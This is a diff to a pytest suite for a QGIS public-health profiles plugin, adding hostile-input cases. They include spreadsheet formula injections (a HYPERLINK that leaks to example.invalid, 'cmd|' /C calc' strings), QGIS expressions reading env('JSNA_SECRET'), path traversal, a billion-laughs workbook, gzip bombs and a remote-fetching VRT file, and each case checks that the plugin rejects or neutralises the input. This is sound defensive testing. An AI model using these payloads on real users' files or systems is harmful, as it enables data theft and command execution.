@@ -2,19 +2,31 @@
 loading, styling, compare, export, own data and downloads.
 
 Each case asserts the message the user gets (the one line the message bar, the command line and
-Processing all show), that every input file's SHA-256 is unchanged, that no partial output is
-left behind, and that the plugin still works afterwards. A few cases are inputs that must work
-(another encoding, names with quotes, ampersands and non-Latin letters): there the outcome is
-checked instead of an error.
+Processing all show); that every file the case can reach (inputs, outputs, the folders around
+them) is unchanged, with SHA-256 taken before and after; that no file appeared except those the
+case means to write; and that the plugin still works afterwards. Some cases are inputs that
+must work (another encoding, names with quotes, ampersands and non-Latin letters, folders named
+"Project #2"): there the outcome is checked instead of an error.
 """
 
 from __future__ import annotations
 
+import base64
+import contextlib
+import dataclasses
+import fnmatch
 import gzip
 import hashlib
+import http.server
 import re
 import shutil
 import sqlite3
+import threading
+import time
+import tracemalloc
+import unicodedata
+import urllib.parse
+import zlib
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
@@ -30,9 +42,10 @@ LSOAS = "coventry_lsoa_2011_bsc.geojson"
 
 
 class Env:
-    """Inputs (hashed before and after), an output folder (must stay empty), the user's pack."""
+    """Inputs, an output folder, the user's pack; every file below ``root`` is watched."""
 
     def __init__(self, root: Path, pack: Path):
+        self.root = root
         self.inputs = root / "inputs"
         self.out = root / "out"
         self.inputs.mkdir()
@@ -42,6 +55,7 @@ class Env:
         # tests, and SQLite rewrites a WAL-mode file's header bytes when anything opens it
         copy_database(pack, self.pack)
         self._sources = None
+        self.made: set[Path] = set()  # inputs a case made while running: not leftovers
 
     def sources(self) -> Path:
         """A writable copy of the source mirror, for cases that damage one file."""
@@ -52,20 +66,28 @@ class Env:
             shutil.copytree(SOURCES, self._sources)
             for path in self._sources.iterdir():
                 path.chmod(0o644)
+                self.made.add(path)
         return self._sources
 
     def edit(self, name: str, old: str, new: str) -> None:
         path = self.sources() / name
         path.write_text(path.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")
 
-    def table(self, name: str, text: str, encoding: str = "utf-8") -> Path:
+    def table(self, name: str, text: str | bytes, encoding: str = "utf-8") -> Path:
+        path = self.input(name)
+        path.write_bytes(text if isinstance(text, bytes) else text.encode(encoding))
+        return path
+
+    def input(self, name: str) -> Path:
+        """Where a case makes an input of its own while running (not a leftover)."""
         path = self.inputs / name
-        path.write_bytes(text.encode(encoding))
+        self.made.add(path)
         return path
 
     def hashes(self) -> dict:
-        return {str(p.relative_to(self.inputs)): hashlib.sha256(p.read_bytes()).hexdigest()
-                for p in sorted(self.inputs.rglob("*")) if p.is_file()}
+        """Every file below the case's root, by path relative to it."""
+        return {str(p.relative_to(self.root)): hashlib.sha256(p.read_bytes()).hexdigest()
+                for p in sorted(self.root.rglob("*")) if p.is_file()}
 
 
 @dataclass
@@ -74,6 +96,7 @@ class Case:
     message: str | None  # regex the one-line message must match; None: the input must work
     run: Callable[[Env], object]
     prepare: Callable[[Env], object] | None = None  # damages an input before hashing
+    writes: tuple[str, ...] = ()  # globs (relative to the root) of files the case means to write
 
 
 # Builder ---------------------------------------------------------------------------------------
@@ -141,7 +164,7 @@ def names_with_quotes_and_other_scripts(env):
         "hub", hub)))
     assert [f["name"] for f in loaded.layer("neighbourhoods").getFeatures(request)] == \
         ["Hillfields"]
-    folder = env.inputs.parent / "atlas"
+    folder = env.root / "atlas"
     folder.mkdir()
     files = export_atlas(atlas_layout(project, loaded, "deprivation", "Other"), folder, False)
     assert [p.name for p in files] == ["Naul's Mill & Bishopsgate Green.pdf"]
@@ -166,7 +189,7 @@ def open_path(make: Callable[[Env], Path]):
 
 
 def truncated_pack(env) -> Path:
-    path = env.inputs / "truncated.gpkg"
+    path = env.input("truncated.gpkg")
     data = env.pack.read_bytes()
     path.write_bytes(data[: len(data) // 3])
     return path
@@ -176,14 +199,14 @@ def foreign_pack(env) -> Path:
     import geopandas as gpd
     from shapely.geometry import Point
 
-    path = env.inputs / "foreign.gpkg"
+    path = env.input("foreign.gpkg")
     gpd.GeoDataFrame({"a": [1]}, geometry=[Point(0, 0)], crs=27700).to_file(path)
     return path
 
 
 def pack_without(table: str):
     def make(env) -> Path:
-        path = env.inputs / "damaged.gpkg"
+        path = env.input("damaged.gpkg")
         shutil.copy(env.pack, path)
         with sqlite3.connect(path) as db:
             db.execute(f"DELETE FROM gpkg_contents WHERE table_name = '{table}'")
@@ -220,7 +243,7 @@ def compare(hub=None, comparator="city", pack: Callable[[Env], Path] | None = No
 
 
 def without_england(env) -> Path:
-    path = env.inputs / "no_england.gpkg"
+    path = env.input("no_england.gpkg")
     shutil.copy(env.pack, path)
     with sqlite3.connect(path) as db:
         db.execute("DELETE FROM indicator_values WHERE level = 'england'")
@@ -229,7 +252,7 @@ def without_england(env) -> Path:
 
 
 def garbage_sqlite(env) -> Path:
-    path = env.inputs / "garbage.gpkg"
+    path = env.input("garbage.gpkg")
     path.write_bytes(b"SQLite format 3\x00" + bytes(300))
     return path
 
@@ -248,6 +271,7 @@ def folder_in_the_way(env) -> Path:
     path = env.out / "harmony.xlsx"
     path.mkdir()
     (path / "keep.txt").write_text("keep")
+    env.made.add(path / "keep.txt")
     return path
 
 
@@ -304,13 +328,16 @@ def profile_of(hub: str):
 
 
 def unusable_file_name(env):
-    from jsna_profiles.layouts.export import safe_file_name
+    from jsna_profiles.core.files import safe_file_name
 
     safe_file_name('<>:"/\\|?*')
 
 
 # Own data --------------------------------------------------------------------------------------
-def add(table_text: str, name: str = "own.csv", encoding: str = "utf-8", **changes):
+def add(table_text: str | bytes, name: str = "own.csv", encoding: str = "utf-8",
+        then: Callable[[object, Path], None] | None = None, **changes):
+    """Add an own indicator (synthetic test data) to a copy of the pack; ``then(report, pack)``
+    checks the result before the copy goes."""
     def run(env):
         from jsna_profiles.builder.add_indicator import IndicatorTable, add_indicator
 
@@ -321,11 +348,29 @@ def add(table_text: str, name: str = "own.csv", encoding: str = "utf-8", **chang
         work = env.out.parent / "work.gpkg"  # a copy: the input pack must not change either way
         shutil.copy(env.pack, work)
         try:
-            return add_indicator(work, IndicatorTable(env.table(name, table_text, encoding),
-                                                      **spec))
+            report = add_indicator(work, IndicatorTable(env.table(name, table_text, encoding),
+                                                        **spec))
+            if then is not None:
+                then(report, work)
+            return report
         finally:
             work.unlink()
     return run
+
+
+def own_value(pack: Path, code: str, indicator: str = "own_rate"):
+    with sqlite3.connect(pack) as db:
+        rows = db.execute("SELECT value FROM indicator_values WHERE area_code = ? AND "
+                          "indicator_id = ?", (code, indicator)).fetchall()
+    db.close()
+    return rows
+
+
+def zero_denominator_is_warned_and_missing(report, pack: Path) -> None:
+    assert any("denominator of zero" in w and "E01009522" in w for w in report.warnings), \
+        report.warnings
+    assert own_value(pack, "E01009522") == [(None,)]  # no value, not 0 and not an error
+    assert own_value(pack, "E01009523") == [(pytest.approx(7.5),)]
 
 
 def merged_header_xlsx(env):
@@ -336,7 +381,7 @@ def merged_header_xlsx(env):
     book.active.merge_cells("A1:C1")
     book.active.append(["code", "n", "d"])
     book.active.append(["E01009522", 3, 40])
-    path = env.inputs / "merged.xlsx"
+    path = env.input("merged.xlsx")
     book.save(path)
     from jsna_profiles.builder.add_indicator import IndicatorTable, add_indicator
 
@@ -352,32 +397,385 @@ def windows_encoded_table(env):
 
 
 # Downloads -------------------------------------------------------------------------------------
+class Scripted(http.server.BaseHTTPRequestHandler):
+    """Answers every GET with its server's ``script(handler)``; records what was asked."""
+
+    def do_GET(self):  # noqa: N802 - the standard library's name
+        self.server.requests.append((self.path, self.headers.get("Authorization")))
+        try:
+            self.server.script(self)
+        except (BrokenPipeError, ConnectionResetError):
+            pass  # the client gave up, as it should
+
+    def log_message(self, *args):
+        pass
+
+
+@contextlib.contextmanager
+def serving(script):
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Scripted)
+    httpd.daemon_threads = True
+    httpd.script, httpd.requests = script, []
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    httpd.url = f"http://127.0.0.1:{httpd.server_address[1]}"
+    try:
+        yield httpd
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+
+
+def send(data: bytes, status: int = 200, length: str | None = None):
+    def script(handler):
+        handler.send_response(status)
+        handler.send_header("Content-Length", length or str(len(data)))
+        handler.end_headers()
+        handler.wfile.write(data)
+    return script
+
+
+def endless(handler):
+    handler.send_response(200)
+    handler.end_headers()
+    while True:
+        handler.wfile.write(bytes(1 << 16))
+
+
+def trickle(handler):
+    handler.send_response(200)
+    handler.send_header("Content-Length", "100000")
+    handler.end_headers()
+    while True:
+        handler.wfile.write(b"x")
+        handler.wfile.flush()
+        time.sleep(0.05)
+
+
+def national(name: str) -> bytes:
+    from test_national import ENGLAND
+
+    if not (ENGLAND / name).is_file():
+        pytest.skip("national files not found")
+    return (ENGLAND / name).read_bytes()
+
+
+def population_entry(**changes):
+    from jsna_profiles.builder.download import MANIFEST
+
+    entry = next(e for e in MANIFEST if e.role == "iod_population")
+    return dataclasses.replace(entry, **changes)
+
+
+def fetch_into_cache(env, script, address=lambda url: url, entry=None, **options):
+    from jsna_profiles.builder.download import fetch
+
+    entry = entry or population_entry()
+    with serving(script) as httpd:
+        try:
+            return fetch(entry, env.out / "cache", base_url=address(httpd.url), **options)
+        finally:
+            env.requests = httpd.requests
+
+
 def downloaded(content: Callable[[bytes], bytes]):
     def run(env):
-        import http.server
-        import threading
-        from functools import partial
+        entry = population_entry()
+        fetch_into_cache(env, send(content(national(entry.name))))
+    return run
 
-        from test_national import ENGLAND
 
-        from jsna_profiles.builder.download import MANIFEST, fetch
+def gzip_stream(head: bytes, filler: bytes, size: int) -> bytes:
+    """``head`` then ``size`` bytes of ``filler``, gzipped chunk by chunk (a "gzip bomb")."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    parts = [packer.compress(head)]
+    block = filler * ((1 << 20) // len(filler))
+    for _ in range(size // len(block)):
+        parts.append(packer.compress(block))
+    return b"".join(parts) + packer.flush()
 
-        if not ENGLAND.is_dir():
-            pytest.skip("national files not found")
-        entry = next(e for e in MANIFEST if e.role == "iod_population")
-        served = env.inputs / "served"
-        served.mkdir()
-        (served / entry.name).write_bytes(content((ENGLAND / entry.name).read_bytes()))
-        httpd = http.server.ThreadingHTTPServer(
-            ("127.0.0.1", 0), partial(http.server.SimpleHTTPRequestHandler,
-                                      directory=str(served)))
-        httpd.RequestHandlerClass.log_message = lambda *args: None
-        threading.Thread(target=httpd.serve_forever, daemon=True).start()
+
+def gzip_bomb_with_one_long_line(env):
+    """Before, the first line was read whole: 300 MB in memory for a 300 KB download."""
+    bomb = gzip_stream(b"", b"a", 300 << 20)
+    tracemalloc.start()
+    try:
+        fetch_into_cache(env, send(bomb), entry=population_entry(sha256=""))
+    finally:
+        peak = tracemalloc.get_traced_memory()[1]
+        tracemalloc.stop()
+        assert peak < 32 << 20, f"peak {peak / 2**20:.0f} MB"
+
+
+def gzip_bomb(env):
+    bomb = gzip_stream(b"LSOA code (2011),Total population: mid 2015\n", b"0", 64 << 20)
+    fetch_into_cache(env, send(bomb), entry=population_entry(sha256="",
+                                                             max_unpacked_bytes=16 << 20))
+
+
+def made_up_rows(env):
+    fake = gzip.compress(b"LSOA code (2011),Total population: mid 2015 (excluding prisoners)\n"
+                         + b"".join(b"E0100%04d,1000\n" % i for i in range(5000)))
+    fetch_into_cache(env, send(fake))
+
+
+def redirected_elsewhere(env):
+    entry = population_entry()
+    with serving(send(national(entry.name))) as elsewhere:
+        def redirect(handler):
+            handler.send_response(302)
+            handler.send_header("Location", f"{elsewhere.url}/{entry.name}")
+            handler.send_header("Content-Length", "0")
+            handler.end_headers()
         try:
-            fetch(entry, env.out, base_url=f"http://127.0.0.1:{httpd.server_address[1]}")
+            fetch_into_cache(env, redirect)
         finally:
-            httpd.shutdown()
-            httpd.server_close()
+            assert elsewhere.requests == []
+
+
+def secrets_in_the_address(env):
+    try:
+        fetch_into_cache(env, send(b"not here", 404),
+                         lambda url: url.replace("//", "//jsna:hunter2@") + "/files?token=T0KEN")
+    except JsnaInputError as exc:
+        assert "hunter2" not in str(exc) and "T0KEN" not in str(exc) and "jsna" not in str(exc)
+        raise
+
+
+def token_in_the_address_works(env):
+    entry = population_entry()
+    data = national(entry.name)
+
+    def needs_token(handler):
+        send(data)(handler) if handler.path.endswith("?token=T0KEN") else send(b"no", 403)(handler)
+    path = fetch_into_cache(env, needs_token,
+                            lambda url: url.replace("//", "//jsna:hunter2@") + "/files/?token=T0KEN")
+    assert path.read_bytes() == data
+    [(asked, authorisation)] = env.requests
+    assert asked == f"/files/{urllib.parse.quote(entry.name)}?token=T0KEN"
+    assert authorisation == "Basic " + base64.b64encode(b"jsna:hunter2").decode()
+
+
+# Names, addresses and files from outside ---------------------------------------------------
+def formula_hub_names(env):
+    """Hub names that spreadsheets would run: every export keeps them as text."""
+    from openpyxl import load_workbook
+
+    from jsna_profiles.core.compare import ComparePack
+    from jsna_profiles.core.compare_export import to_html, to_tsv, write_csv, write_xlsx
+
+    hubs = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]
+    env.sources()
+    rows = "".join(f'{code},"{hub.replace(chr(34), chr(34) * 2)}",test\n'
+                   for code, hub in zip(("E02001981", "E02001977", "E02001978", "E02001979"), hubs))
+    build(env, hub_lookup=env.table("lookup.csv", "area_code,hub,basis\n" + rows))
+    compare = ComparePack(env.out / "pack.gpkg")
+    for hub in hubs:
+        table = compare.table(hub)
+        write_xlsx(table, env.out / "hub.xlsx")
+        book = load_workbook(env.out / "hub.xlsx")
+        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []
+        assert hub in [c.value for c in cells]  # the name as written, as text
+        write_csv(table, env.out / "hub.csv")
+        for text in ((env.out / "hub.csv").read_text(encoding="utf-8-sig"), to_tsv(table),
+                     to_html(table)):
+            assert f"'{hub[:12]}" in text.replace("&amp;", "&").replace('""', '"')
+        for name in ("hub.xlsx", "hub.csv"):
+            (env.out / name).unlink()
+    (env.out / "pack.gpkg").unlink()
+
+
+def grid_name_that_is_a_path(env):
+    """A pack naming a grid '../../qml_escaped' wrote a style outside --out-dir."""
+    import hostile
+    from jsna_profiles.layers.pack_styles import export_qml
+
+    pack = hostile.grid_named(env.pack, env.input("grid.gpkg"), "../../qml_escaped")
+    export_qml(pack, env.out / "qml")
+
+
+def pack_in_awkward_folder(folder: str):
+    """A pack in ``folder`` (below out/): read, compared and added to as it is; then opened in
+    QGIS and printed."""
+    def run(env):
+        from qgis.core import QgsProject
+
+        from jsna_profiles.builder.add_indicator import IndicatorTable, add_indicator
+        from jsna_profiles.core.compare import ComparePack
+        from jsna_profiles.layers.pack import open_pack
+        from jsna_profiles.layouts.export import export_layout
+        from jsna_profiles.layouts.profile import profile_layout
+
+        where = env.out / folder
+        where.mkdir(parents=True)
+        pack = where / "coventry #1.gpkg"
+        copy_database(env.pack, pack)
+        table = env.table("own.csv", "code,n,d\nE01009522,3,40\nE01009523,4,50\n")
+        add_indicator(pack, IndicatorTable(table, "own_rate", "Own rate (synthetic test data)",
+                                           "code", numerator_column="n", denominator_column="d",
+                                           unit="%", source="Synthetic test data"))
+        assert "own_rate" in [i.indicator_id for i in ComparePack(pack).table("Harmony").indicators]
+        assert sorted(p.name for p in env.out.rglob("*") if p.is_file()) == ["coventry #1.gpkg"]
+        project = QgsProject()
+        try:
+            loaded = open_pack(pack, project)
+            export_layout(profile_layout(project, loaded, ComparePack(pack), "Harmony"),
+                          where / "profile.pdf", "pdf", dpi=50)
+        finally:
+            project.clear()
+    return run
+
+
+def atlas_pages(env, overwrite: bool = False, hub: str | None = "Harmony", pack=None):
+    from qgis.core import QgsProject
+
+    from jsna_profiles.layers.pack import open_pack
+    from jsna_profiles.layouts.atlas import atlas_layout
+    from jsna_profiles.layouts.export import export_atlas
+
+    project = QgsProject()
+    try:
+        layout = atlas_layout(project, open_pack(pack or env.pack, project), "fuel_poverty", hub)
+        return export_atlas(layout, env.out / "atlas", one_file=False, dpi=40,
+                            overwrite=overwrite)
+    finally:
+        project.clear()
+
+
+def user_files_in_the_atlas_folder(*names: str, folders: tuple[str, ...] = ()):
+    def prepare(env):
+        (env.out / "atlas").mkdir()
+        for name in names:
+            (env.out / "atlas" / name).write_text(f"the user's own {name}")
+        for name in folders:
+            (env.out / "atlas" / name).mkdir()
+    return prepare
+
+
+def replacing_fails_part_way(env):
+    """The fourth rename fails: the three files already replaced are put back."""
+    import jsna_profiles.layouts.export as export
+
+    real, calls = export.os.replace, []
+
+    def flaky(source, target):
+        calls.append(target)
+        if len(calls) == 4:
+            raise OSError(5, "Input/output error")
+        return real(source, target)
+    export.os.replace = flaky
+    try:
+        atlas_pages(env, overwrite=True)
+    finally:
+        export.os.replace = real
+
+
+def names_no_file_system_takes(env):
+    """Reserved Windows names, over-long names, bidi controls, and names that differ only by
+    case or Unicode normalisation: every page gets its own, portable file."""
+    names = ["CON", "nul.txt", "N" * 300, "Hill\u202efdp.exe", "Caf\u00e9", "Cafe\u0301",
+             "Stoke", "STOKE"]
+    pack = env.input("renamed.gpkg")
+    copy_database(env.pack, pack)
+    with sqlite3.connect(pack) as db:
+        for name in ("ST_IsEmpty", "ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY"):
+            db.create_function(name, 1, lambda *_args: 0)
+        db.execute("UPDATE neighbourhoods SET hub = 'Harmony' WHERE code IN (SELECT code FROM "
+                   "neighbourhoods WHERE hub != 'Harmony' ORDER BY code LIMIT 2)")
+        codes = [r[0] for r in db.execute("SELECT code FROM neighbourhoods WHERE hub = 'Harmony' "
+                                          "ORDER BY code")]
+        for code, name in zip(codes, names):
+            db.execute("UPDATE neighbourhoods SET name = ? WHERE code = ?", (name, code))
+    db.close()
+    (env.out / "atlas").mkdir()
+    files = [p.name for p in atlas_pages(env, pack=pack)]
+    assert len(files) == len(names) == len({unicodedata.normalize("NFC", f).casefold()
+                                            for f in files})
+    assert {"CON_.pdf", "nul_.txt.pdf", "Hillfdp.exe.pdf", "Café.pdf", "Café (2).pdf",
+            "N" * 180 + ".pdf"} <= set(files)
+    assert {f.casefold() for f in files if f.casefold().startswith("stoke")} == {
+        "stoke.pdf", "stoke (2).pdf"}
+
+
+def export_onto_the_pack(kind: str):
+    """``--out`` naming the input pack by mistake: refused, the pack kept."""
+    def run(env):
+        from qgis.core import QgsProject
+
+        from jsna_profiles.core.compare import ComparePack
+        from jsna_profiles.core.compare_export import write_csv, write_xlsx
+        from jsna_profiles.layers.pack import open_pack
+        from jsna_profiles.layouts.export import export_layout
+        from jsna_profiles.layouts.profile import profile_layout
+
+        if kind in ("csv", "xlsx"):
+            table = ComparePack(env.pack).table("Harmony")
+            (write_csv if kind == "csv" else write_xlsx)(table, env.pack)
+            return
+        project = QgsProject()
+        try:
+            layout = profile_layout(project, open_pack(env.pack, project), ComparePack(env.pack),
+                                    "Harmony")
+            export_layout(layout, env.pack, "pdf")
+        finally:
+            project.clear()
+    return run
+
+
+def build_onto_a_source(env):
+    from jsna_profiles.builder.pack import build_pack
+
+    build_pack(env.sources(), env.sources() / "coventry_fuel_poverty_2020_lsoa11.csv",
+               with_styles=False)
+
+
+def own_table_is_the_pack(env):
+    from jsna_profiles.builder.add_indicator import IndicatorTable, add_indicator
+
+    add_indicator(env.pack, IndicatorTable(env.pack, "own_rate", "Own rate", "code",
+                                           value_column="v", source="Test data"))
+
+
+def billion_laughs_xlsx(env):
+    """A workbook whose shared strings expand entities (XML's "billion laughs")."""
+    import zipfile
+
+    from openpyxl import Workbook
+
+    from jsna_profiles.builder.add_indicator import preview
+
+    plain = env.input("plain.xlsx")
+    book = Workbook()
+    book.active.append(["code", "v"])
+    book.active.append(["E01009522", "x"])
+    book.save(plain)
+    laughs = env.input("laughs.xlsx")
+    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
+    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(laughs, "w") as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                text = data.decode()
+                body = text[text.index("?>") + 2:] if text.startswith("<?xml") else text
+                data = ('<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "ha">' + entities
+                        + "]>" + body.replace("<t>x</t>", "<t>&l9;</t>")).encode()
+            target.writestr(item, data)
+    preview(laughs)
+
+
+def vrt_table(suffix: str):
+    """A "table" that is a GDAL virtual file reading a web address: refused, nothing fetched."""
+    def run(env):
+        from jsna_profiles.builder.add_indicator import preview
+
+        with serving(send(b"code,v\nE01009522,1\n")) as httpd:
+            path = env.table(f"own{suffix}", f"""<OGRVRTDataSource><OGRVRTLayer name="own">
+<SrcDataSource>/vsicurl/{httpd.url}/own.csv</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>""")
+            try:
+                preview(path)
+            finally:
+                assert httpd.requests == []
     return run
 
 
@@ -409,7 +807,15 @@ CASES = [
                  damaged_source("430010.742216842,279375.498328876", "-1.560228,52.411563",
                                 "coventry_no2_monitoring_sites.csv")),
     Case("names with quotes, ampersands and other scripts", None,
-         names_with_quotes_and_other_scripts),
+         names_with_quotes_and_other_scripts, writes=("atlas/*",)),
+    Case("hub name that is a QGIS expression",
+         r"lookup\.csv: the hub 'Mosaic \[% env\('JSNA_SECRET'\) %\]' contains '\[%'",
+         lookup_build("area_code,hub,basis\nE02001981,Mosaic [% env('JSNA_SECRET') %],test\n")),
+    builder_case("neighbourhood name that is a QGIS expression", r"coventry_msoa11_hcl_names_"
+                 r"v1\.14\.csv: the msoa11hclnm 'Hillfields \[% 1\+1 %\]' contains '\[%'",
+                 damaged_source(",Hillfields,", ",Hillfields [% 1+1 %],",
+                                "coventry_msoa11_hcl_names_v1.14.csv")),
+    Case("hub names spreadsheets would run as formulas", None, formula_hub_names),
     # loading
     Case("pack not found", r"Data pack not found", open_path(lambda env: env.inputs / "no.gpkg")),
     Case("truncated GeoPackage", r"truncated\.gpkg (is not a GeoPackage|.*damaged)",
@@ -420,6 +826,12 @@ CASES = [
          open_path(lambda env: env.table("notes.gpkg", "just some notes"))),
     Case("pack missing a layer", r"missing the layer 'neighbourhoods'",
          open_path(pack_without("neighbourhoods"))),
+    Case("pack naming a grid that is a path", r"grid '\.\./\.\./qml_escaped', which is not a grid "
+         "table's name", grid_name_that_is_a_path),
+    Case("pack in folders named 'Project #2' and 'c ?x'", None,
+         pack_in_awkward_folder("Project #2/c ?x"), writes=("out/Project #2/c ?x/*",)),
+    Case("pack in a folder named 'a%41b'", r"QGIS cannot open a GeoPackage whose path has '%'",
+         pack_in_awkward_folder("a%41b"), writes=("out/a%41b/coventry #1.gpkg",)),
     # styling
     Case("unknown theme", r"Unknown map theme 'heat'", styled("heat")),
     Case("unknown indicator", r"Unknown indicator 'nope'", styled("indicator",
@@ -455,20 +867,74 @@ CASES = [
     Case("profile of an unknown hub", r"No hub called 'Atlantis'", profile_of("Atlantis")),
     Case("name with only characters files cannot have", r"cannot be turned into a file name",
          unusable_file_name),
+    Case("atlas into a folder holding the user's own file", r"1 of the 6 files are already in .*"
+         r"Barras Heath\.pdf", atlas_pages,
+         user_files_in_the_atlas_folder("Barras Heath.pdf", "notes.txt")),
+    Case("atlas with a folder in the way", r"A folder called Hillfields\.pdf is in the way",
+         lambda env: atlas_pages(env, overwrite=True),
+         user_files_in_the_atlas_folder("Barras Heath.pdf", folders=("Hillfields.pdf",))),
+    Case("atlas file named in another case", r"already in .*barras heath\.PDF",
+         atlas_pages, user_files_in_the_atlas_folder("barras heath.PDF")),
+    Case("atlas replacing files fails part-way", r"Cannot write .*Input/output error",
+         replacing_fails_part_way,
+         user_files_in_the_atlas_folder("Barras Heath.pdf", "Central Coventry.pdf", "Copsewood.pdf",
+                                        "Hillfields.pdf", "Lower Stoke & Gosford Park.pdf",
+                                        "Stoke Heath.pdf")),
+    Case("neighbourhood names no file system takes", None, names_no_file_system_takes,
+         writes=("out/atlas/*",)),
+    Case("comparison CSV written onto the pack", r"coventry\.gpkg is a database .* never "
+         "replaces it", export_onto_the_pack("csv")),
+    Case("comparison workbook written onto the pack", r"coventry\.gpkg is a database",
+         export_onto_the_pack("xlsx")),
+    Case("profile PDF written onto the pack", r"coventry\.gpkg is a database",
+         export_onto_the_pack("pdf")),
+    Case("pack built onto a source file", r"coventry_fuel_poverty_2020_lsoa11\.csv exists and is "
+         "not a JSNA data pack", build_onto_a_source),
     # your own data
     Case("negative count", r"negative count \(-3\) for E01009522",
          add("code,n,d\nE01009522,-3,40\n")),
     Case("denominator of zero is a warning, not an error", None,
-         lambda env: add("code,n,d\nE01009522,0,0\nE01009523,3,40\n")(env)),
+         add("code,n,d\nE01009522,0,0\nE01009523,3,40\n",
+             then=zero_denominator_is_warned_and_missing)),
     Case("mixed 2011 and 2021 codes", r"mixes LSOA 2011 codes \(E01009522\) with LSOA 2021",
          add("code,n,d\nE01009522,3,40\nE01035000,3,40\n")),
     Case("XLSX with merged header rows", r"first row is not a header row", merged_header_xlsx),
     Case("CSV in Windows-1252 with £ and é", None, windows_encoded_table),
+    Case("CSV neither UTF-8 nor Windows-1252", r"own\.csv: neither UTF-8 nor Windows-1252 "
+         r"text \(byte 0x81", add(b"code,n,d\nE01009522,3,40\n\x81\n")),
+    Case("hub lookup neither UTF-8 nor Windows-1252", r"lookup\.csv: neither UTF-8 nor "
+         "Windows-1252", lookup_build(b"area_code,hub,basis\nE02001981,Harmony\x81,test\n")),
+    Case("own indicator title that is a QGIS expression", r"The indicator's title 'Rate \[% "
+         r"env\('JSNA_SECRET'\) %\]' contains '\[%'",
+         add("code,n,d\nE01009522,3,40\n", title="Rate [% env('JSNA_SECRET') %]")),
+    Case("own table that is the pack itself", r"is the data pack itself", own_table_is_the_pack),
+    Case("XLSX that expands entities (billion laughs)", r"laughs\.xlsx: cannot be read as a "
+         "table", billion_laughs_xlsx),
+    Case("table that is a .vrt reading a web address", r"own\.vrt: a \.vrt file can point",
+         vrt_table(".vrt")),
+    Case("VRT saved under a .gpkg name", r"own\.gpkg: cannot be read as a table",
+         vrt_table(".gpkg")),
     # downloads
     Case("download that is an HTML error page", r"HTML page",
          downloaded(lambda data: gzip.compress(b"<!DOCTYPE html><p>Error 500</p>"))),
     Case("download cut short", r"damaged or incomplete",
          downloaded(lambda data: data[: len(data) // 2])),
+    Case("download with no end", r"sent more than 67,108,864 bytes",
+         lambda env: fetch_into_cache(env, endless)),
+    Case("download that trickles", r"took longer than 1 s",
+         lambda env: fetch_into_cache(env, trickle, deadline_s=1)),
+    Case("gzip bomb in one long line", r"first line is longer than 65,536 bytes",
+         gzip_bomb_with_one_long_line),
+    Case("gzip bomb", r"unpacks to more than 16,777,216 bytes", gzip_bomb),
+    Case("right header, made-up rows", r"SHA-256 is not the one in the manifest", made_up_rows),
+    Case("redirect to another server", r"redirects to another server .*; not followed",
+         redirected_elsewhere),
+    Case("length that is not a number", r"announced a length that is not a number \('abc'\)",
+         lambda env: fetch_into_cache(env, send(b"data", length="abc"))),
+    Case("user name, password and token in the address", r"answered 404",
+         secrets_in_the_address),
+    Case("token in the address kept, and out of messages", None, token_in_the_address_works,
+         writes=("out/cache/*",)),
 ]
 
 
@@ -489,23 +955,32 @@ def test_corpus_is_large_enough():
     assert len(CASES) >= 30 and len({c.name for c in CASES}) == len(CASES)
 
 
-@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
-def test_bad_input(case, coventry_pack, tmp_path, qgis_app):
-    env = Env(tmp_path, coventry_pack)
+def problems(case: Case, env: Env) -> list[str]:
+    """Run ``case``; everything wrong with what it did (empty when all is well)."""
+    found = []
     if case.prepare is not None:
         case.prepare(env)  # the damage is the input; what follows must not change anything
     before = env.hashes()
-    if case.message is None:
+    try:
         case.run(env)
-    else:
-        with pytest.raises(JsnaInputError) as caught:
-            case.run(env)
-        message = str(caught.value)
-        assert "\n" not in message and "Traceback" not in message
-        assert re.search(case.message, message), message
+        if case.message is not None:
+            found.append(f"no error, expected /{case.message}/")
+    except JsnaInputError as exc:
+        message = str(exc)
+        if case.message is None:
+            found.append(f"unexpected error: {message}")
+        elif "\n" in message or "Traceback" in message or not re.search(case.message, message):
+            found.append(f"message: {message}")
     after = env.hashes()
-    assert {k: after.get(k) for k in before} == before  # no input file changed or removed
-    leftovers = [p.name for p in env.out.rglob("*")
-                 if p.name != "keep.txt" and p.name != "harmony.xlsx"]
-    assert leftovers == [], leftovers
+    made = {str(p.relative_to(env.root)) for p in env.made}
+    found += [f"changed or removed: {k}" for k in before if after.get(k) != before[k]]
+    found += [f"left behind: {k}" for k in after if k not in before and k not in made
+              and not any(fnmatch.fnmatch(k, pattern) for pattern in case.writes)]
+    return found
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
+def test_bad_input(case, coventry_pack, tmp_path, qgis_app):
+    env = Env(tmp_path, coventry_pack)
+    assert problems(case, env) == []
     plugin_still_works(env)
